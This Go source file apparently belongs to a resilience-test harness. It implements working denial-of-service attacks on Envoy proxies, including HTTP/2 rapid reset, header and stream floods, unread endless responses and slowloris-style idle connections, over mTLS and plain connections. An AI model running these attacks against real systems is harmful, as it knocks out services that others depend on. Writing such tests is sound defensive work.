package hostile

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// An envoyAttack runs until its context ends.
type envoyAttack struct {
	name string
	run  func(ctx context.Context, v *victim)
	// large means that Envoy may refuse requests of others, and use the reserve of memory.
	large bool
}

func envoyAttacks() []envoyAttack {
	plain := func(v *victim) string { return v.http }
	h2 := func(v *victim) string { return v.http2 }
	tcp := func(v *victim) string { return v.tcp }
	return []envoyAttack{
		{name: "uploads that the application does not read", run: asMemberOf(h2, 20, "h2", uploads)},
		{name: "more uploads that the application does not read", run: asMemberOf(h2, 60, "h2", uploads)},
		{name: "answers that are not read", run: asMemberOf(h2, 20, "h2", unread(hugeAnswers(largestWindow)))},
		{name: "more answers that are not read", run: asMemberOf(h2, 60, "h2", unread(hugeAnswers(largestWindow)))},
		{name: "answers without a window", run: asMemberOf(h2, 40, "h2", frames(hugeAnswers(0)))},
		{name: "large headers of requests that wait", run: asMemberOf(h2, 20, "h2", frames(largeHeaders))},
		{name: "requests that wait, as many as a connection may have", run: asMemberOf(h2, 20, "h2", frames(manyRequests(16, 10)))},
		{name: "requests that wait, with the largest headers", run: asMemberOf(h2, 20, "h2", frames(manyRequests(22, 4000)))},
		{name: "requests that wait, with the most headers", run: asMemberOf(h2, 20, "h2", frames(manyRequests(90, 10)))},
		{name: "requests that wait, with the most headers, a byte for each", run: asMemberOf(h2, 20, "h2", frames(repeatedHeaders))},
		{name: "headers that never end", run: asMemberOf(h2, 40, "h2", frames(settings(endlessHeaders)))},
		{name: "frames that ask nothing", run: asMemberOf(h2, 40, "h2", frames(settings(idleFrames)))},
		{name: "streams that are reset", run: asMemberOf(h2, 40, "h2", frames(settings(rapidReset)))},
		{name: "HTTP/1 uploads that the application does not read", run: asMemberOf(plain, 800, "http/1.1", requestHTTP1("POST /wait"))},
		{name: "HTTP/1 answers that are not read", run: asMemberOf(plain, 800, "http/1.1", requestHTTP1("GET /endless"))},
		{name: "HTTP/1 answers that strangers do not read", run: asStrangerTo(plain, 800, requestHTTP1("GET /endless"))},
		{name: "TCP answers that are not read", run: asMemberOf(tcp, 800, "", sendOnce(askBytes))},
		{name: "TCP that the application does not read", run: asMemberOf(tcp, 800, "", sendForEver(askStall))},
		{name: "TCP answers that strangers do not read", run: asStrangerTo(tcp, 800, sendOnce(askBytes))},
		{name: "silent connections of members", run: asMemberOf(plain, 1500, "http/1.1", hold)},
		{name: "silent connections of strangers", run: asStrangerTo(plain, 1500, hold)},
		{name: "headers of a byte each, of many clients", run: asMemberOf(h2, 60, "h2", frames(repeatedHeaders)), large: true},
	}
}

// hostileRate is the number of connections that an attacker opens each second after the initial
// ones.
const hostileRate = 50

// dialer connects to a victim.
type dialer func(ctx context.Context, v *victim) (net.Conn, error)

// memberWith connects with the certificate of a member of the mesh. It also offers the protocol alpn, unless that
// is "".
func memberWith(alpn, at string) dialer {
	return func(ctx context.Context, v *victim) (net.Conn, error) {
		d := tls.Dialer{Config: v.tls()}
		if alpn != "" {
			d.Config = v.tls(alpn)
		}
		return d.DialContext(ctx, "tcp", at)
	}
}

// stranger connects without mTLS.
func stranger(at string) dialer {
	return func(ctx context.Context, _ *victim) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "tcp", at)
	}
}

// asMemberOf opens connections as a member of the mesh, and holds them.
func asMemberOf(at func(*victim) string, connections int, alpn string, do func(context.Context, net.Conn)) func(context.Context, *victim) {
	return func(ctx context.Context, v *victim) { connect(ctx, v, connections, memberWith(alpn, at(v)), do) }
}

func asStrangerTo(at func(*victim) string, connections int, do func(context.Context, net.Conn)) func(context.Context, *victim) {
	return func(ctx context.Context, v *victim) { connect(ctx, v, connections, stranger(at(v)), do) }
}

// connect keeps a number of connections open, and runs a function on each.
func connect(ctx context.Context, v *victim, connections int, dial dialer, do func(context.Context, net.Conn)) {
	var held pool
	defer held.close()
	var running sync.WaitGroup
	defer running.Wait()
	places := make(chan struct{}, connections)
	repeat(ctx, connections, hostileRate, 8, func(int) {
		select {
		case places <- struct{}{}:
		default:
			return // all connections are open
		}
		dialing, cancel := context.WithTimeout(ctx, 5*time.Second)
		defer cancel()
		c, err := dial(dialing, v)
		if err != nil {
			<-places
			return
		}
		endAtOnce(c)
		held.add(c)
		running.Go(func() {
			defer func() { _ = c.Close(); <-places }()
			do(ctx, c)
		})
	})
	held.close()
}

// endAtOnce makes a connection end with a reset. Otherwise Envoy's unread data keeps it open for minutes, and fewer
// connections are left for the next attack.
func endAtOnce(c net.Conn) {
	if t, ok := c.(*tls.Conn); ok {
		c = t.NetConn()
	}
	_ = c.(*net.TCPConn).SetLinger(0) // the connection may have ended
}

func hold(ctx context.Context, _ net.Conn) { <-ctx.Done() }

const (
	// streams is the number of streams per connection in attacks with expensive streams.
	streams = 200
	// allStreams exceeds the stream limit of a connection to an inbound.
	allStreams = 400
)

// zeros is an endless reader.
type zeros struct{}

func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }

// clientConn uses HTTP/2 on a connection like a correct client.
func clientConn(ctx context.Context, c net.Conn) (*http.ClientConn, error) {
	var protocols http.Protocols
	protocols.SetUnencryptedHTTP2(true) // the TLS handshake is done
	t := &http.Transport{Protocols: &protocols, DialContext: func(context.Context, string, string) (net.Conn, error) { return c, nil }}
	return t.NewClientConn(ctx, "http", "victim:80")
}

// uploads sends as much data as flow control allows on each stream.
func uploads(ctx context.Context, c net.Conn) {
	conn, err := clientConn(ctx, c)
	if err != nil {
		return
	}
	var running sync.WaitGroup
	for range streams {
		running.Go(func() {
			for ctx.Err() == nil {
				r, _ := http.NewRequestWithContext(ctx, http.MethodPost, "http://victim/wait", zeros{})
				answer, err := conn.RoundTrip(r)
				if err != nil {
					return
				}
				_ = answer.Body.Close()
			}
		})
	}
	running.Wait()
	_ = conn.Close()
}

// frames uses HTTP/2 on a connection, and drops received data; with unread, it does not read at all.
func frames(do func(context.Context, *http2.Framer) error) func(context.Context, net.Conn) {
	return speak(do, true)
}

func unread(do func(context.Context, *http2.Framer) error) func(context.Context, net.Conn) {
	return speak(do, false)
}

func speak(do func(context.Context, *http2.Framer) error, read bool) func(context.Context, net.Conn) {
	return func(ctx context.Context, c net.Conn) {
		var reading sync.WaitGroup
		defer reading.Wait()
		defer func() { _ = c.Close() }()
		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
			return
		}
		if read {
			reading.Go(func() { _, _ = io.Copy(io.Discard, c) })
		}
		if do(ctx, http2.NewFramer(c, c)) == nil {
			<-ctx.Done()
		}
	}
}

// envoyRequest encodes the headers of a request, and additional headers.
func envoyRequest(path string, more ...hpack.HeaderField) []byte {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	e.SetMaxDynamicTableSizeLimit(0)
	for _, h := range append([]hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "victim"}, {Name: ":path", Value: path},
	}, more...) {
		_ = e.WriteField(h) // writes to a buffer
	}
	return block.Bytes()
}

const largestWindow = 1<<31 - 1

// hugeAnswers requests endless responses, with this window on each stream and the largest window on the connection.
func hugeAnswers(window uint32) func(context.Context, *http2.Framer) error {
	return func(_ context.Context, f *http2.Framer) error {
		if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}); err != nil {
			return err
		}
		if err := f.WriteWindowUpdate(0, largestWindow-65535); err != nil {
			return err
		}
		for n := range uint32(allStreams) {
			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1 + 2*n, BlockFragment: envoyRequest("/endless"), EndHeaders: true, EndStream: true}); err != nil {
				return err
			}
		}
		return nil
	}
}

// largeHeaders sends requests with the largest allowed headers.
func largeHeaders(_ context.Context, f *http2.Framer) error {
	if err := f.WriteSettings(); err != nil {
		return err
	}
	var more []hpack.HeaderField
	for n := range 60 {
		more = append(more, hpack.HeaderField{Name: fmt.Sprint("x-", n), Value: strings.Repeat("v", 4000), Sensitive: true})
	}
	return requests(f, streams, envoyRequest("/wait", more...))
}

// manyRequests sends more requests than a connection allows, each with this many headers of this size; the
// requests stay open.
func manyRequests(headers, size int) func(context.Context, *http2.Framer) error {
	return func(_ context.Context, f *http2.Framer) error {
		if err := f.WriteSettings(); err != nil {
			return err
		}
		var more []hpack.HeaderField
		for n := range headers {
			more = append(more, hpack.HeaderField{Name: fmt.Sprint("x-", n), Value: strings.Repeat("v", size), Sensitive: true})
		}
		return requests(f, allStreams, envoyRequest("/wait", more...))
	}
}

// repeatedHeaders sends more requests than a connection allows, whose headers are indices into HPACK's static table:
// each takes one byte on the connection, and 300 bytes of Envoy's memory.
func repeatedHeaders(_ context.Context, f *http2.Framer) error {
	if err := f.WriteSettings(); err != nil {
		return err
	}
	const contentDisposition = 0x80 | 25 // by its index (RFC 7541, appendix A)
	return requests(f, allStreams, append(envoyRequest("/wait"), bytes.Repeat([]byte{contentDisposition}, 90)...))
}

// requests sends a request this many times.
func requests(f *http2.Framer, times uint32, request []byte) error {
	for n := range times {
		rest := request
		size := min(len(rest), 16<<10)
		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1 + 2*n, BlockFragment: rest[:size], EndStream: true, EndHeaders: size == len(rest)})
		for rest = rest[size:]; err == nil && len(rest) > 0; rest = rest[size:] {
			size = min(len(rest), 16<<10)
			err = f.WriteContinuation(1+2*n, size == len(rest), rest[:size])
		}
		if err != nil {
			return err
		}
	}
	return nil
}

// settings sends the initial SETTINGS of HTTP/2, and then attacks.
func settings(attack func(context.Context, *http2.Framer) error) func(context.Context, *http2.Framer) error {
	return func(ctx context.Context, f *http2.Framer) error {
		if err := f.WriteSettings(); err != nil {
			return err
		}
		return attack(ctx, f)
	}
}

// requestHTTP1 makes an HTTP/1 request, with an endless body for POST. It does not read the response.
func requestHTTP1(line string) func(context.Context, net.Conn) {
	return func(ctx context.Context, c net.Conn) {
		head := line + " HTTP/1.1\r\nHost: victim\r\n"
		post := strings.HasPrefix(line, http.MethodPost)
		if post {
			head += "Content-Length: 1000000000000\r\n"
		}
		if _, err := io.WriteString(c, head+"\r\n"); err != nil {
			return
		}
		if post {
			_, _ = io.Copy(c, zeros{})
		}
		<-ctx.Done()
	}
}

// sendOnce sends a byte, and reads nothing.
func sendOnce(b byte) func(context.Context, net.Conn) {
	return func(ctx context.Context, c net.Conn) {
		_, _ = c.Write([]byte{b})
		<-ctx.Done()
	}
}

// sendForEver sends a byte, and then endless data.
func sendForEver(b byte) func(context.Context, net.Conn) {
	return func(ctx context.Context, c net.Conn) {
		_, _ = c.Write([]byte{b})
		_, _ = io.Copy(c, zeros{})
		<-ctx.Done()
	}
}
